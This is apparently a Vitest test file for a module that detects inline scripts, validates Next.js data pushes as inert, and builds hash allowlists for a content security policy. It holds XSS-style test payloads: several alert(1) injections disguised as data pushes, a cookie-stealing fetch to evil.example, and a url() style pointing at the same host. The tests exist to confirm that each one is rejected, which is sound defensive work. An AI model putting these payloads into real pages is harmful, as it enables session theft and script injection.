import { describe, expect, it } from "vitest";
import { allowedInline, hashSource, inlineScripts, isInertData, styleAttributes } from "./inline-content.mjs";

const push = (data: unknown[]) => `self.__next_f.push(${JSON.stringify(data)})`;
const script = (text: string, attributes = "") => `<script${attributes}>${text}</script>`;

describe("inline scripts", () => {
  it("are those a browser would run: neither external scripts nor data blocks", () => {
    const html = [
      script("run()"),
      script("module()", ' type="module"'),
      script("", ' src="/x.js" async=""'),
      script("{}", ' type="application/ld+json"'),
      script("{}", ' type="application/json"'),
    ].join("<p>text</p>");
    expect(inlineScripts(html)).toEqual(["run()", "module()"]);
  });
});

describe("inert data", () => {
  it("is a single push of JSON", () => {
    expect(isInertData(push([1, '1:"$Sreact.fragment"\n2:["$","script",null,{}]']))).toBe(true);
    expect(isInertData(push([0]))).toBe(true);
  });

  it("is nothing executable, in any disguise", () => {
    const acts = [
      "alert(1)",
      `${push([1, "x"])};alert(1)`,
      'self.__next_f.push([1,"x"].map(alert))',
      "self.__next_f.push([1,alert(1)])",
      "self.__next_f.push([alert`1`])",
      'self.__next_f.push([1,"x"]),alert(1,[])',
      "self.__next_f.push([[],alert][1]([1]))",
      "//self.__next_f.push([1])\nalert(1)",
      "self.__next_f.push({})",
      "self.__next_f=[]",
    ];
    for (const text of acts) expect(isInertData(text), text).toBe(false);
  });
});

describe("allowed scripts of a page", () => {
  const theme = "((a)=>{document.documentElement.className=a})('dark')";
  const built = new Set([hashSource(theme)]);

  it("are those of the build and Next's data, and not one injected with the data", () => {
    const injected = "fetch('//evil.example/'+document.cookie)";
    const html = script(theme) + script(push([1, "a"])) + script(injected) + script(`${theme};${injected}`);
    expect(allowedInline(html, built).scripts).toEqual([hashSource(theme), hashSource(push([1, "a"]))]);
  });

  it("are Next's data only when there is no build", () => {
    expect(allowedInline(script(theme) + script(push([1])), new Set()).scripts).toEqual([
      hashSource(push([1])),
    ]);
  });
});

describe("style attributes", () => {
  it("are parsed like a browser does, and not inside scripts", () => {
    const html = `<p style="--a:&quot;x&quot;">${script("'<p style=\"no\">'")}<b class="x" style="color:red">`;
    expect(styleAttributes(html)).toEqual(['--a:"x"', "color:red"]);
  });

  it("with url() are not allowed", () => {
    const html = '<p style="background:url(//evil.example)"><p style="outline:none">';
    expect(allowedInline(html, new Set()).styles).toEqual([hashSource("outline:none")]);
  });
});
